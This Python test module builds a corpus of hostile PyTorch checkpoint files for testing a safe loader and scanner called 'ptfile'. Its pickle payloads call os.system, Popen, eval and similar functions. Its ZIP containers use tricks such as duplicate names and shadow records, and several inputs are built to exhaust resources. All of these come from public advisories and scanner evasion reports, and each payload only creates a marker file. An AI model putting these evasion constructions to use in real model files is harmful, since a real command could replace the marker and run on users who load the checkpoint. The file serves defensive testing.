"""A corpus of hostile checkpoints, generated: every payload is benign and observable.

Each payload tries to create a *marker file* (``touch``, ``open(..., 'w')``,
``Popen``...).  The tests load every file with ``ptfile.load`` (strict and
structural) and ``ptfile.scan`` in a child process under memory and time
limits, and check that no marker appears.

Sources of the patterns: torch advisories GHSA-53q9-r3pm-6pq6 (CVE-2025-32434,
a weights-only load reaching a second loader) and CVE-2026-24747 (``SETITEM``
on non-dicts, storage sizes that disagree with the archive); picklescan issues
#14/#22 and PR #52 (memo confusion: ``MEMOIZE`` mixed with ``BINPUT``,
out-of-order ``PUT``, missing memo keys, non-string ``STACK_GLOBAL``
operands); modelscan #85 (``BUILD`` on an imported function, then a dotted
``GLOBAL`` reading the smuggled name) and #348 (damage after the payload to
crash the scanner); denylist gaps (``cProfile.run``, ``pydoc.pipepager``,
``timeit``); ZIP ambiguity (duplicate or case-colliding names, local/central
name mismatch, shadow records, prepended pickles, archives in comments).
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

import ptfile
from ptfile.archive import ZipWriter


@dataclass(frozen=True)
class Case:
    """One hostile file: its bytes and whether the scanner must call it dangerous."""

    name: str
    data: bytes
    dangerous: bool


# --------------------------------------------------------------------------- pickle pieces


def s(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def touch(marker: Path) -> str:
    return f"touch {marker}"


def reduce_call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` as GLOBAL MARK args TUPLE REDUCE (protocol 2)."""
    return g(module, name) + b"(" + b"".join(args) + b"tR"


def proto2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


class _System:
    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return (os.system, (self.cmd,))


def system_pickle(marker: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(_System(touch(marker)), protocol=protocol)


def open_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("builtins", "open", s(str(marker)), s("w")))


def stack_global_memo(marker: Path) -> bytes:
    """picklescan #22: names PUT out of order, fetched back by GET before STACK_GLOBAL."""
    return (b"\x80\x04" + b"Vos\np2\n0" + b"Vsystem\np3\n0" + b"Vtorch\np0\n0"
            + b"VLongStorage\np1\n0" + b"g2\ng3\n\x93" + b"(" + b"V" + touch(marker).encode()
            + b"\ntR.")


def memoize_confusion(marker: Path) -> bytes:
    """picklescan #14: BINPUT and MEMOIZE mixed, so a naive memo model sees safe names."""
    return (b"\x80\x04" + b"\x8c\x02os" + b"q\x00" + b"\x8c\x06system" + b"q\x01"
            + b"\x8c\x0ctorch._utils" + b"\x94" + b"\x8c\x12_rebuild_tensor_v2" + b"\x94"
            + b"h\x00h\x01\x93" + b"\x8c" + bytes([len(touch(marker))]) + touch(marker).encode()
            + b"\x85R.")


def payload_then_damage(marker: Path) -> bytes:
    """modelscan #348 / picklescan EDP: the payload runs, then a bad memo key crashes scanners."""
    return system_pickle(marker)[:-1] + b"h\x63\x00."


def build_smuggle(marker: Path) -> bytes:
    """modelscan #85: BUILD sets attributes on an imported function; GLOBAL reads them back."""
    return (b"\x80\x04" + g("numpy", "prod") + b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b"
            + b"0" + g("numpy", "prod.a") + b"p0\n" + g("numpy", "prod.b") + b"p1\n00"
            + b"g0\ng1\n\x93V" + touch(marker).encode() + b"\n\x85R.")


def inst_pickle(marker: Path) -> bytes:
    return b"(V" + touch(marker).encode() + b"\nios\nsystem\n."


def obj_pickle(marker: Path) -> bytes:
    return b"\x80\x02(" + g("os", "system") + s(touch(marker)) + b"o."


def newobj_popen(marker: Path) -> bytes:
    return proto2(g("subprocess", "Popen") + b"(" + s("touch") + s(str(marker)) + b"l\x85\x81")


def newobj_ex(marker: Path) -> bytes:
    return (b"\x80\x04" + g("subprocess", "Popen") + b"(" + s("touch") + s(str(marker))
            + b"l\x85}\x92.")


def getattr_chain(marker: Path) -> bytes:
    inner = reduce_call("builtins", "__import__", s("os"))
    return proto2(g("builtins", "getattr") + b"(" + inner + s("system") + b"tR(" + s(touch(marker))
                  + b"tR")


def eval_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("builtins", "eval", s(f"open({str(marker)!r}, 'w')")))


def exec_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("builtins", "exec", s(f"open({str(marker)!r}, 'w')")))


def runpy_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("runpy", "_run_code", s(f"open({str(marker)!r}, 'w')"), b"}"))


def cprofile_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("cProfile", "run", s(f"open({str(marker)!r}, 'w')")))


def timeit_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("timeit", "timeit", s(f"open({str(marker)!r}, 'w')"), b"K\x01"))


def pydoc_pickle(marker: Path) -> bytes:
    return proto2(reduce_call("pydoc", "pipepager", s(""), s(touch(marker))))


def importlib_pickle(marker: Path) -> bytes:
    mod = reduce_call("importlib", "import_module", s("os"))
    return proto2(g("builtins", "getattr") + b"(" + mod + s("system") + b"tR(" + s(touch(marker))
                  + b"tR")


def load_from_bytes(marker: Path) -> bytes:
    """A weights-only-looking load that reaches a second, unrestricted loader."""
    inner = system_pickle(marker)
    blob = b"C" + bytes([len(inner)]) + inner if len(inner) < 256 else b"B" + struct.pack(
        "<I", len(inner)) + inner
    return proto2(g("torch.storage", "_load_from_bytes") + blob + b"\x85R")


def torch_load_encoded(marker: Path) -> bytes:
    inner = system_pickle(marker).decode("latin-1")
    encoded = reduce_call("_codecs", "encode", s(inner), s("latin1"))
    return proto2(g("torch", "load") + b"(" + g("io", "BytesIO") + b"(" + encoded + b"tRtR")


def nested_bytes(marker: Path) -> bytes:
    """An inert dict holding a malicious pickle as bytes (dangerous only if unpickled later)."""
    inner = system_pickle(marker).decode("latin-1")
    return proto2(b"}" + s("blob") + reduce_call("_codecs", "encode", s(inner), s("latin1"))
                  + b"s")


def ext_pickle(marker: Path) -> bytes:
    return proto2(b"\x82\xf1(" + s(touch(marker)) + b"tR")


def build_on_allowlisted(marker: Path) -> bytes:
    """Try to change an allowlisted function for every later load (``__defaults__``)."""
    return proto2(g("collections", "OrderedDict") + b"N}" + s("__defaults__") + b"K\x05\x85s\x86b")


def numpy_object_array(marker: Path) -> bytes:
    dtype = reduce_call("numpy", "dtype", s("O8"), b"\x89\x88")
    array = reduce_call("numpy.core.multiarray", "_reconstruct", g("numpy", "ndarray"),
                        b"K\x00\x85", s("b"))
    state = b"(K\x01K\x01\x85" + dtype + b"\x89]" + system_pickle(marker)[2:-1] + b"atb"
    return proto2(array + state)


def pid_smuggle(marker: Path) -> bytes:
    return proto2(b"(" + s("storage") + g("os", "system") + s(touch(marker)) + s("cpu")
                  + b"K\x01tQ")


def defaultdict_factory(marker: Path) -> bytes:
    return proto2(reduce_call("collections", "defaultdict", g("os", "system")))


# --------------------------------------------------------------------------- containers


def checkpoint(pkl: bytes, records: dict[str, bytes] | None = None) -> bytes:
    """A torch-shaped ZIP with ``pkl`` as data.pkl."""
    out = io.BytesIO()
    with ZipWriter(out.write, "archive") as writer:
        writer.write_record("data.pkl", pkl)
        for name, data in (records or {}).items():
            writer.write_record(name, data)
        writer.write_record("version", b"3\n")
    return out.getvalue()


def with_data_pkl(archive: bytes, pkl: bytes) -> bytes:
    """``archive`` (a ``torch.save``/``ptfile.save`` ZIP) with its ``data.pkl`` replaced by
    ``pkl``, every other record kept, rewritten stored by Python's zipfile."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = pkl if info.filename.endswith("/data.pkl") else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()


def raw_zip(entries: list[tuple[str, bytes]], *, central: list[tuple[str, int]] | None = None,
            prefix: bytes = b"", comment: bytes = b"", local_names: dict[int, str] | None = None,
            sizes: dict[int, int] | None = None) -> bytes:
    """A stored ZIP with full control: central entries may name or point anywhere."""
    out = bytearray(prefix)
    offsets = []
    for i, (name, data) in enumerate(entries):
        offsets.append(len(out))
        lname = (local_names or {}).get(i, name).encode()
        crc = zlib.crc32(data)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data),
                           len(data), len(lname), 0) + lname + data
    cd_start = len(out)
    picks = central if central is not None else [(name, i) for i, (name, _) in enumerate(entries)]
    for name, index in picks:
        data = entries[index][1]
        size = (sizes or {}).get(index, len(data))
        raw = name.encode()
        out += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0,
                           zlib.crc32(data), size, size, len(raw), 0, 0, 0, 0, 0,
                           offsets[index]) + raw
    cd_size = len(out) - cd_start
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(picks), len(picks), cd_size,
                       cd_start, len(comment)) + comment
    return bytes(out)


def benign_pickle() -> bytes:
    return pickle.dumps({"w": 1}, protocol=2)


def legacy(object_pickle: bytes, header: bytes | None = None) -> bytes:
    magic = bytes.fromhex("80028a0a6cfc9c46f9206aa850192e")
    proto = pickle.dumps(1001, protocol=2)
    sys_info = header or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                       "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    return magic + proto + sys_info + object_pickle + pickle.dumps([], protocol=2)


def tar(members: dict[str, bytes]) -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torchscript(constants: bytes, data: bytes) -> bytes:
    return checkpoint(data, {"constants.pkl": constants,
                             "code/__torch__.py": b"import os\nos.system('touch x')\n"})


def tensor_pickle(numel: int, size: tuple[int, ...], stride: tuple[int, ...],
                  offset: int = 0) -> bytes:
    def tup(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(b"J" + struct.pack("<i", v) for v in values) + b"t"

    pid = b"(" + s("storage") + g("torch", "FloatStorage") + s("0") + s("cpu") + b"\x8a\x08" \
        + struct.pack("<q", numel) + b"tQ"
    hooks = g("collections", "OrderedDict") + b")R"
    return proto2(g("torch._utils", "_rebuild_tensor_v2") + b"(" + pid + b"J"
                  + struct.pack("<i", offset) + tup(size) + tup(stride) + b"\x89" + hooks + b"tR")


# --------------------------------------------------------------------------- the corpus


def _pickle_cases(m: Callable[[str], Path]) -> list[Case]:
    makers: dict[str, Callable[[Path], bytes]] = {
        "stack_global_memo": stack_global_memo, "memoize_confusion": memoize_confusion,
        "payload_then_damage": payload_then_damage, "build_smuggle": build_smuggle,
        "inst": inst_pickle, "obj": obj_pickle, "newobj_popen": newobj_popen,
        "newobj_ex": newobj_ex, "getattr_chain": getattr_chain, "eval": eval_pickle,
        "exec": exec_pickle, "runpy": runpy_pickle, "cprofile": cprofile_pickle,
        "timeit": timeit_pickle, "pydoc": pydoc_pickle, "importlib": importlib_pickle,
        "load_from_bytes": load_from_bytes, "torch_load_encoded": torch_load_encoded,
        "nested_bytes": nested_bytes, "ext": ext_pickle, "open": open_pickle,
        "build_on_allowlisted": build_on_allowlisted, "numpy_object_array": numpy_object_array,
        "pid_smuggle": pid_smuggle, "defaultdict_factory": defaultdict_factory,
    }
    cases = [Case(f"system_p{p}", checkpoint(system_pickle(m(f"system_p{p}"), p)), True)
             for p in range(6)]
    # EXT codes resolve through copyreg's registry, empty in a fresh interpreter: unknown.
    cases += [Case(name, checkpoint(make(m(name))), name != "ext")
              for name, make in makers.items()]
    cases.append(Case("plain_pickle_file", system_pickle(m("plain_pickle_file")), True))
    return cases


def _container_cases(m: Callable[[str], Path]) -> list[Case]:
    good, version = benign_pickle(), b"3\n"
    evil = {name: system_pickle(m(name)) for name in (
        "dup_evil_second", "dup_evil_first", "name_mismatch", "shadow", "case_collision",
        "prepended", "comment_archive", "after_stop", "legacy_header", "legacy_object",
        "tar_pickle", "tar_storages", "ts_constants", "ts_data")}
    d, v = "archive/data.pkl", "archive/version"
    return [
        Case("dup_evil_second", raw_zip([(d, good), (d, evil["dup_evil_second"]), (v, version)]),
             True),
        Case("dup_evil_first", raw_zip([(d, evil["dup_evil_first"]), (d, good), (v, version)]),
             True),
        Case("name_mismatch", raw_zip([(d, evil["name_mismatch"]), (v, version)],
                                      local_names={0: "archive/x.bin"}), True),
        Case("shadow", raw_zip([("archive/data.pkl", evil["shadow"]), (d, good), (v, version)],
                               central=[(d, 1), (v, 2)]), True),
        Case("case_collision", raw_zip([(d, good), ("archive/DATA.pkl", evil["case_collision"]),
                                        (v, version)]), True),
        Case("prepended", evil["prepended"] + checkpoint(good), True),
        Case("comment_archive", raw_zip([(d, good), (v, version)], comment=raw_zip(
            [(d, evil["comment_archive"]), (v, version)])), True),
        Case("after_stop", checkpoint(good + evil["after_stop"]), True),
        Case("overlap", raw_zip([(d, good), (v, version)], central=[(d, 0), ("archive/y", 0),
                                                                     (v, 1)]), False),
        Case("outside_archive", raw_zip([(d, good), (v, version)], sizes={0: 2**31}), False),
        Case("legacy_header", legacy(benign_pickle(), evil["legacy_header"]), True),
        Case("legacy_object", legacy(evil["legacy_object"]), True),
        Case("tar_pickle", tar({"sys_info": benign_pickle(), "pickle": evil["tar_pickle"],
                                "storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2)}),
             True),
        Case("tar_storages", tar({"pickle": benign_pickle(), "storages": evil["tar_storages"],
                                  "tensors": pickle.dumps(0, 2)}), True),
        Case("ts_constants", torchscript(evil["ts_constants"], good), True),
        Case("ts_data", torchscript(pickle.dumps((), 2), evil["ts_data"]), True),
    ]


def _resource_cases() -> list[Case]:
    # Built by hand: a Python dict of these keys would itself take quadratic time.
    big_ints = proto2(b"}(" + b"".join(b"\x8a\x0b" + (k * (2**61 - 1)).to_bytes(11, "little")
                                        + b"K\x00" for k in range(30_000)) + b"u")
    floats = [complex(float(1 - 1000003 * k), float(k)) for k in range(30_000)]
    deep = b"\x80\x02}K\x01" + b"\x85" * 400_000 + b"K\x02s."
    deep_list = b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."
    return [
        Case("oob_view", checkpoint(tensor_pickle(2, (1000,), (1,)), {"data/0": b"\0" * 8}), False),
        Case("negative_stride", checkpoint(tensor_pickle(4, (2,), (-1,), 3),
                                           {"data/0": b"\0" * 16}), False),
        Case("huge_numel", checkpoint(tensor_pickle(2**60, (2**30, 2**30), (2**30, 1)),
                                      {"data/0": b"\0" * 8}), False),
        Case("meta_2_60", checkpoint(proto2(reduce_call(
            "torch._utils", "_rebuild_meta_tensor_no_storage", g("torch", "float32"),
            b"(\x8a\x08" + struct.pack("<q", 2**60) + b"t", b"(K\x01t", b"\x89"))), False),
        Case("legacy_ctor_2_31", checkpoint(proto2(reduce_call(
            "torch", "FloatTensor", b"\x8a\x05" + (2**31).to_bytes(5, "little")))), False),
        Case("bytearray_2_33", checkpoint(proto2(reduce_call(
            "builtins", "bytearray", b"\x8a\x05" + (2**33).to_bytes(5, "little")))), False),
        Case("memo_2_32", checkpoint(b"\x80\x02N" + b"r\xff\xff\xff\xff" + b"."), False),
        Case("missing_memo", checkpoint(b"\x80\x02h\x05."), False),
        Case("million_marks", checkpoint(b"\x80\x02" + b"(" * 1_000_000 + b"."), False),
        Case("deep_tuple_key", checkpoint(deep), False),
        Case("deep_list", checkpoint(deep_list), False),
        Case("hash_flood_ints", checkpoint(big_ints), True),
        Case("hash_flood_complex", checkpoint(_complex_keys(floats)), True),
        Case("binunicode8_huge", checkpoint(b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"."),
             False),
        Case("binbytes_huge", checkpoint(b"\x80\x03B\xff\xff\xff\x7f."), False),
        Case("frame_huge", checkpoint(b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"N."), False),
        Case("setitems_on_tensor", checkpoint(tensor_pickle(2, (2,), (1,))[:-1] + b"(" + s("k")
                                              + b"K\x01u.", {"data/0": b"\0" * 8}), False),
        Case("storage_size_mismatch", checkpoint(tensor_pickle(1000, (2,), (1,)),
                                                 {"data/0": b"\0" * 8}), False),
        Case("zip_count_huge", _zip_entries_huge(), False),
    ]


def _complex_keys(keys: list[complex]) -> bytes:
    """A dict of ``builtins.complex(re, im)`` keys (pickle writes complex that way)."""
    body = b"}(" + b"".join(
        reduce_call("builtins", "complex", b"G" + struct.pack(">d", k.real),
                    b"G" + struct.pack(">d", k.imag)) + b"K\x00" for k in keys) + b"u"
    return proto2(body)


def _zip_entries_huge() -> bytes:
    data = checkpoint(benign_pickle())
    at = data.rfind(b"PK\x05\x06")
    eocd = bytearray(data[at:])
    eocd[8:12] = b"\xfe\xff\xfe\xff"
    return data[:at] + bytes(eocd)


def corpus(marker_dir: Path) -> list[Case]:
    """Every hostile case, with payloads that would create files in ``marker_dir``."""

    def marker(name: str) -> Path:
        return marker_dir / name

    return _pickle_cases(marker) + _container_cases(marker) + _resource_cases()


def benign_whole_models() -> dict[str, bytes]:
    """Not hostile: ptfile-written files, for sanity checks of the runner."""
    out = io.BytesIO()
    ptfile.save({"w": np.ones(3, "float32")}, out)
    return {"ptfile_save": out.getvalue()}
